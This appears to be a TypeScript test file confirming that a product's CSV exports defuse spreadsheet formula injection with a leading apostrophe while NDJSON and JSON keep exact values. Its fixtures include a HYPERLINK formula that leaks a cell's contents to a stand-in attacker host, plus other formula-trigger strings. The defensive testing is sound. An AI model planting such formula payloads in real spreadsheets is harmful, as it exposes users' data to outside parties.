/**
 * CSV is for people's spreadsheets, which run a cell starting with `=`, `+`, `-` or `@` (or a tab or
 * carriage return) as a formula: such text cells get a leading apostrophe in every CSV the product
 * writes (a Discovery export, `query --format csv`, a report's CSVs), while NDJSON keeps the bytes.
 */
import * as fs from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { pathToFileURL } from 'node:url';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { addDays, lastSettledDay, type Day } from '../../../shared/day';
import type { ResultRow } from '../../../shared/discovery/result-metadata';
import { main } from '../../../main/cli/main';
import { ResultWriter } from '../../../main/engine/discovery/result-export';
import { demoArchiveDirIn } from '../../../main/engine/service/open-app-service';
import { makeWritable } from '../archive/archive-fixture';
import { fillAppArchive } from '../service/archive-status-fixture';

const COLUMNS = [
  { name: 'name', type: 'varchar' },
  { name: 'n', type: 'bigint' },
];
const HOSTILE: ResultRow[] = [
  ['=HYPERLINK("https://attacker.example/?leak="&A1,"Click")', 1],
  ['+1+1', -5],
  ['-2+3', 0],
  ['@SUM(A1:A9)', 2.5],
  ['\tindented', 3],
  ['\rreturn', 4],
  ['Zoë Müller', 5],
  ['a=b, c', 6],
];

async function written(format: 'csv' | 'ndjson', rows: ResultRow[]): Promise<string> {
  let out = '';
  const writer = new ResultWriter(format, (text) => void (out += text));
  await writer.columns(COLUMNS);
  await writer.rows(rows);
  return out;
}

describe('CSV for spreadsheets', () => {
  it('prefixes every text cell a spreadsheet would run as a formula with an apostrophe, and leaves numbers and other text alone', async () => {
    expect((await written('csv', HOSTILE)).split('\r\n')).toEqual([
      'name,n',
      `"'=HYPERLINK(""https://attacker.example/?leak=""&A1,""Click"")",1`,
      "'+1+1,-5",
      "'-2+3,0",
      "'@SUM(A1:A9),2.5",
      "'\tindented,3",
      `"'\rreturn",4`,
      'Zoë Müller,5',
      '"a=b, c",6',
      '',
    ]);
  });

  it('keeps the exact values in NDJSON, the evidence for machines', async () => {
    const lines = (await written('ndjson', HOSTILE)).trimEnd().split('\n');
    expect(lines.map((l) => JSON.parse(l) as { name: string; n: number })).toEqual(
      HOSTILE.map(([name, n]) => ({ name, n })),
    );
  });
});

describe('audit-archive query --format csv', () => {
  let dir: string;
  let target: string;
  let from: Day;
  let to: Day;
  beforeAll(async () => {
    dir = await fs.mkdtemp(path.join(os.tmpdir(), 'aa-csv-'));
    to = lastSettledDay(Date.now(), 120);
    from = addDays(to, -1);
    await fillAppArchive(dir, { archive: [from, to] });
    target = pathToFileURL(demoArchiveDirIn(dir)).href;
  });
  afterAll(async () => {
    await makeWritable(dir).catch(() => undefined);
    await fs.rm(dir, { recursive: true, force: true });
  });

  async function query(format: 'csv' | 'json') {
    let stdout = '';
    let stderr = '';
    const code = await main(
      [
        'query',
        '--sql',
        `SELECT '=HYPERLINK("https://attacker.example")' AS label, -1 AS n FROM audit_events LIMIT 1`,
        '--from',
        from,
        '--to',
        to,
        '--format',
        format,
        '--target',
        target,
        '--state-dir',
        path.join(dir, 'state'),
      ],
      {
        env: {},
        stdout: { write: (s: string) => (stdout += s) },
        stderr: { write: (s: string) => (stderr += s) },
      },
    );
    return { code, stdout, stderr };
  }

  it('writes a formula-looking value as inert text in CSV and exactly in JSON', async () => {
    const csv = await query('csv');
    expect(csv.code, csv.stderr).toBe(0);
    expect(csv.stdout).toBe(`label,n\r\n"'=HYPERLINK(""https://attacker.example"")",-1\r\n`);
    const json = await query('json');
    expect(json.code, json.stderr).toBe(0);
    expect(JSON.parse(json.stdout)).toEqual({ label: '=HYPERLINK("https://attacker.example")', n: -1 });
  });
});
